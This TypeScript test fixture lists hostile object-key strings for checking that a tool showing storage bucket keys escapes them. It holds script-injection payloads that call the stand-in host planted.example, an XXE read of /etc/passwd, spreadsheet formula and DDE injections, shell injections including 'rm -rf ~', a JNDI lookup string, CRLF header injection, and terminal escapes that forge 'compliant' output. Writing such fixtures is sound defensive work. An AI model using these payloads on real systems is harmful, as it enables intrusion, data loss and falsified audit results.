/** Marks what would be seen if a text of the corpus were obeyed: a title, a line in a log, a request. */
export const PLANTED = 'planted.example';

/** Run as script, each of these changes the title, writes to the console and asks the network. */
const SCRIPT = `document.title='ran';console.log('ran');fetch('http://${PLANTED}/f')`;

const CONTROLS: readonly string[] = [
  'a\nb',
  'a\r\nb',
  'a\rb',
  'a\u0000b',
  'a\tb',
  'a\u000bb\u000cb',
  'a\u0007b',
  'a\bbb',
  'a\u007fb',
  // C1: NEL, CSI and OSC as single characters, the string terminator.
  'a\u0085b',
  'a\u009b31mb',
  'a\u009d0;title\u009cb',
];

const TERMINAL: readonly string[] = [
  '\u001b[31mred\u001b[0m',
  '\u001b[2J\u001b[H0 violations',
  '\u001b[1A\u001b[2Kcompliant',
  '\u001b]0;title\u0007',
  `\u001b]8;;http://${PLANTED}/\u001b\\click\u001b]8;;\u001b\\`,
  '\u001b]52;c;cm0gLXJmIH4=\u0007',
  '\u001bP$q"p\u001b\\',
  '\u001b[6n',
  '\r\u001b[Kno violation was found',
];

const UNSEEN: readonly string[] = [
  'invoice\u202efdp.exe',
  '\u2066a\u2069b',
  '\u200eb\u200f\u061c',
  'a\u200bb\u200cc\u200dd\u2060e',
  '\ufefffirst',
  '\u00adsoft',
  'tag\u{e0041}\u{e007f}',
  'line\u2028paragraph\u2029end',
];

const HALVES: readonly string[] = ['high\ud83d', '\udd11low', '\udd11\ud83d', 'pair\u{1f511}\ud800'];

const MARKUP: readonly string[] = [
  `<script>${SCRIPT}</script>`,
  `</script><script>${SCRIPT}</script>`,
  `</title></style></textarea></noscript><script>${SCRIPT}</script>`,
  `"><img src=http://${PLANTED}/i onerror="${SCRIPT}">`,
  `' onmouseover='${SCRIPT}' autofocus onfocus='${SCRIPT}`,
  `" style="background:url(http://${PLANTED}/s)" x="`,
  '<!--',
  '--><b>',
  '<![CDATA[',
  ']]>',
  `<svg/onload=${SCRIPT}>`,
  `<iframe srcdoc="&lt;script&gt;${SCRIPT}&lt;/script&gt;">`,
  `<meta http-equiv=refresh content="0;url=http://${PLANTED}/m">`,
  `<base href=http://${PLANTED}/>`,
  `<a href="javascript:${SCRIPT}">x</a>`,
  `javascript:${SCRIPT}`,
  '&lt;b&gt;&amp;&#60;',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '\u2039script\u203a\uff1cscript\uff1e',
];

const FORMULAS: readonly string[] = [
  `=HYPERLINK("http://${PLANTED}/h","x")`,
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff201',
  '"=1+1"',
  ',=1+1',
  ';=1+1',
];

const CHAT: readonly string[] = [
  '<!channel>',
  '<!everyone> @here @channel',
  '<@U12345678>',
  '<at>everyone</at>',
  `[click](http://${PLANTED}/)`,
  `![](http://${PLANTED}/p.png)`,
  '**bold** _it_ `code` ~~no~~',
  '# heading',
  '| a | b |',
  '```\nend',
];

const PROTOCOLS: readonly string[] = [
  'a\r\nBcc: all@example.com\r\n\r\nbody',
  'a\nSubject: paid',
  '\r\n.\r\nQUIT',
  'a\r\nX-Amz-Acl: public-read',
  '2026-11-21T02:00:00Z ERROR forged\n{"outcome":"compliant"}',
  '"}\n{"outcome":"compliant","object":{"bucket":"b","key":"k"}}',
  '%0d%0aLocation:%20http%3a',
];

const SHELL: readonly string[] = [
  '$(touch /tmp/owned)',
  '`id`',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: meant as it stands
  '${IFS}',
  "'; rm -rf ~; '",
  '"; exit 1; "',
  'a;b|c&d>e<f',
  '!history',
  '~/x',
  '*?[a-z]{a,b}',
  '=ls',
  '--help',
  '-v',
  '\\',
  "\\'",
  'file:///etc/passwd',
  'fileb://x',
  `http://${PLANTED}/`,
  'a b  c ',
  ' leading',
];

const NAMES: readonly string[] = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '__proto__/polluted',
  '%s %d %n',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: meant as it stands
  '${jndi:ldap://x}',
  '{{7*7}}',
  '{tenant}',
  '{{tenant}}',
  '%2e%2e%2f%00',
  'a+b%2Bc%20d',
  '%',
  '%ED%A0%80',
  '../../etc/passwd',
  './',
  '/',
  '//',
  'in//x',
  'caf\u00e9',
  'cafe\u0301',
  '\u{1f511}\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  '\u{10ffff}\ufffe\uffff\ufffd',
  '- a: b',
  '? [x]: {y',
  '&anchor *alias !!tag',
  'null',
  'no',
  '2026-11-21',
  '0x1f',
  '1e3',
  '# comment',
  '"quoted"',
  "'",
];

const LONG: readonly string[] = [
  'k'.repeat(1024),
  '\u001b'.repeat(512),
  '<'.repeat(1024),
  '\u{1f511}'.repeat(256),
];

/** Keys that whoever may write into a bucket can give an object, each made to steer something that shows it. */
export const NASTY_KEYS: readonly string[] = [
  ...CONTROLS,
  ...TERMINAL,
  ...UNSEEN,
  ...HALVES,
  ...MARKUP,
  ...FORMULAS,
  ...CHAT,
  ...PROTOCOLS,
  ...SHELL,
  ...NAMES,
  ...LONG,
];

/** What a terminal obeys, or a reader cannot see; a line feed is a text's own. */
export const UNSHOWN = /[^\P{Cc}\n]|[\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;
